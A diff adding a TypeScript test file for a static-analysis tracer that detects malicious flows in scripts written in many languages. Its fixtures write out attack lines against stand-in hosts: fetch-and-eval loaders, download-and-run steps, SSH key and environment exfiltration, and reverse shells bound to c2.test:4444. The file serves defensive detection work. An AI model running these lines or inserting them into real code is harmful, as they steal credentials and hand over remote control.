@@ -1,0 +1,195 @@
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import type { Fact } from "../../../fact/fact.ts";
+import { makeSource } from "../../../testing/make-source.ts";
+import { FactRecorder } from "../fact-recorder.ts";
+import { traceStatements } from "./trace-statements.ts";
+
+const TAKE = "https://take.test/in";
+const LOAD = "https://load.test/x";
+
+function trace(file: string, ...lines: string[]): readonly string[] {
+  const text = lines.join("\n");
+  const recorder = new FactRecorder(makeSource(text, { language: "code", medium: "script", file }));
+  traceStatements(text, file, recorder);
+  return recorder.facts.flatMap(show);
+}
+
+function show(fact: Fact): readonly string[] {
+  if (fact.kind === "act") return fact.act.type === "remote-shell" ? [`shell at ${fact.act.host}`] : [];
+  if (fact.kind !== "flow") return [];
+  const { sink } = fact;
+  const end = sink.type === "network" ? (sink.host ?? "*") : sink.type === "execute" ? sink.how : sink.type;
+  return fact.sources.map((source) => {
+    if (source.type === "secret") return `${source.secret} to ${end}`;
+    return source.type === "network" ? `${source.host} to ${end}` : `${source.type} to ${end}`;
+  });
+}
+
+describe("what is fetched in one statement and evaluated in another is a flow", () => {
+  test.each<[string, string[]]>([
+    ["a.rb", [`page = Net::HTTP.get(URI("${LOAD}"))`, `puts "ready"`, "instance_eval(page)"]],
+    ["a.pl", ["use LWP::Simple;", `my $page = get("${LOAD}");`, "eval $page;"]],
+    ["a.php", ["<?php", `$page = file_get_contents("${LOAD}");`, "eval($page);"]],
+    ["a.php", [`$where = "https://" . "load.test/x";`, "$page = file_get_contents($where);", "eval($page);"]],
+    ["a.lua", [`local pipe = io.popen("curl -s ${LOAD}")`, `load(pipe:read("*a"))()`]],
+    ["a.R", [`page <- readLines("${LOAD}")`, "eval(parse(text = page))"]],
+    ["a.jl", [`page = Downloads.download("${LOAD}")`, "include(page)"]],
+    ["a.exs", [`page = Req.get!("${LOAD}").body`, "Code.eval_string(page)"]],
+    [
+      "a.rb",
+      [
+        "def fetch_page(where)",
+        "  Net::HTTP.get(URI(where))",
+        "end",
+        `page = fetch_page("${LOAD}")`,
+        "eval(page)",
+      ],
+    ],
+    ["a.php", ["function run_it($code) {", "  eval($code);", "}", `run_it(file_get_contents("${LOAD}"));`]],
+  ])("%s: %j", (file, lines) => {
+    expect(trace(file, ...lines)).toContain("load.test to eval");
+  });
+});
+
+test("a file that is written with what was fetched and then started is a flow", () => {
+  const lines = [`File.write("/tmp/tool", URI.open("${LOAD}").read)`, `system("/tmp/tool")`];
+  expect(trace("a.rb", ...lines)).toContain("load.test to file");
+  expect(
+    trace(
+      "a.go",
+      `response, _ := http.Get("${LOAD}")`,
+      `target, _ := os.Create("/tmp/tool")`,
+      "io.Copy(target, response.Body)",
+      `exec.Command("/tmp/tool").Run()`,
+    ),
+  ).toContain("load.test to file");
+});
+
+describe("a secret that reaches a request is a flow", () => {
+  test.each<[string, string, string[]]>([
+    [
+      "a.rb",
+      "ssh",
+      [`key = File.read(File.expand_path("~/.ssh/id_rsa"))`, `RestClient.post("${TAKE}", key)`],
+    ],
+    ["a.rb", "whole-environment", [`Net::HTTP.post(URI("${TAKE}"), ENV.to_h.to_json)`]],
+    ["a.pl", "whole-environment", [`HTTP::Tiny->new->post_form("${TAKE}", { %ENV });`]],
+    [
+      "a.php",
+      "whole-environment",
+      [
+        `$handle = curl_init("${TAKE}");`,
+        "curl_setopt($handle, CURLOPT_POSTFIELDS, json_encode(getenv()));",
+        "curl_exec($handle);",
+      ],
+    ],
+    [
+      "a.go",
+      "ssh",
+      [
+        "func main() {",
+        `\tpath := filepath.Join(os.Getenv("HOME"), ".ssh", "id_rsa")`,
+        "\tdata, _ := os.ReadFile(path)",
+        `\thttp.Post("${TAKE}", "text/plain", bytes.NewReader(data))`,
+        "}",
+      ],
+    ],
+    [
+      "a.rs",
+      "whole-environment",
+      [
+        "let all: Vec<_> = std::env::vars().collect();",
+        `reqwest::blocking::Client::new()`,
+        `    .post("${TAKE}")`,
+        "    .json(&all)",
+        "    .send();",
+      ],
+    ],
+    [
+      "a.R",
+      "own-key",
+      [`key <- Sys.getenv("OTHER_API_KEY")`, `httr::POST("${TAKE}", body = list(key = key))`],
+    ],
+  ])("%s: %s of %j", (file, secret, lines) => {
+    expect(trace(file, ...lines)).toContain(`${secret} to take.test`);
+  });
+});
+
+test("what is unpacked and evaluated is a flow", () => {
+  expect(trace("a.rb", `text = "6964".then { |h| [h].pack("H*") }`, "eval(text)")).toContain(
+    "decoded to eval",
+  );
+  expect(trace("a.php", "$text = gzinflate(base64_decode($blob));", "eval($text);")).toContain(
+    "decoded to eval",
+  );
+});
+
+describe("a shell that is bound to a connection is seen", () => {
+  test.each<[string, string[]]>([
+    ["a.rb", [`s = TCPSocket.new("c2.test", 4444)`, `spawn("/bin/sh", in: s, out: s, err: s)`]],
+    ["a.php", [`$s = fsockopen("c2.test", 4444);`, `proc_open("/bin/sh", [0 => $s, 1 => $s], $pipes);`]],
+    ["a.php", [`$s = fsockopen("c2.test", 4444);`, `exec("/bin/sh -i <&3 >&3 2>&3");`]],
+    [
+      "a.go",
+      [
+        `link, _ := net.Dial("tcp", "c2.test:4444")`,
+        `shell := exec.Command("/bin/sh")`,
+        "shell.Stdin = link",
+        "shell.Stdout = link",
+      ],
+    ],
+  ])("%s: %j", (file, lines) => {
+    expect(trace(file, ...lines)).toContain("shell at c2.test");
+  });
+});
+
+describe("ordinary programs give no flow", () => {
+  test.each<[string, string[]]>([
+    ["a.rb", [`page = Net::HTTP.get(URI("${LOAD}"))`, "puts JSON.parse(page)", `system("make")`]],
+    ["a.pl", [`my $page = get("${LOAD}");`, "eval { parse($page) };", "print $page;"]],
+    ["a.pl", [`my $size = unpack("N", $head);`, "eval $code;"]],
+    ["a.pl", ["=pod", "", `  my $page = get("${LOAD}"); eval $page;`, "", "=cut", "", "print 1;"]],
+    ["a.pl", [`local %ENV = (%ENV, LANG => "C");`, `get("${LOAD}?l=$ENV{LANG}");`]],
+    ["a.go", [`data, _ := os.ReadFile("config.yaml")`, `http.Post("${TAKE}", "text/plain", data)`]],
+    [
+      "a.go",
+      [
+        "func one() {",
+        `  text := fetch("${LOAD}")`,
+        "  log.Print(text)",
+        "}",
+        "func two(text string) {",
+        `  exec.Command("sh", "-c", text).Run()`,
+        "}",
+      ],
+    ],
+    ["a.lua", [`local size = #list -- eval(get("${LOAD}"))`, "return load"]],
+    ["a.rb", [`key = ENV["HOME"]`, `Net::HTTP.post(URI("${TAKE}"), key)`]],
+  ])("%s: %j", (file, lines) => {
+    expect(trace(file, ...lines)).toEqual([]);
+  });
+});
+
+test("no text makes it throw", () => {
+  for (const piece of [
+    "a=",
+    "a,",
+    "(",
+    "{",
+    "`",
+    "a.b=c;",
+    "# ",
+    "-- ",
+    "def a(b,",
+    `"#{a}" + `,
+    "=pod\n",
+    "\n",
+  ])
+    expect(trace("a.rb", `eval x\n${piece.repeat(20_000)}`)).toEqual([]);
+  fc.assert(
+    fc.property(fc.string({ unit: "binary" }), (text) => {
+      expect(Array.isArray(trace("a.php", `eval(x)\n${text}`))).toBe(true);
+    }),
+  );
+});
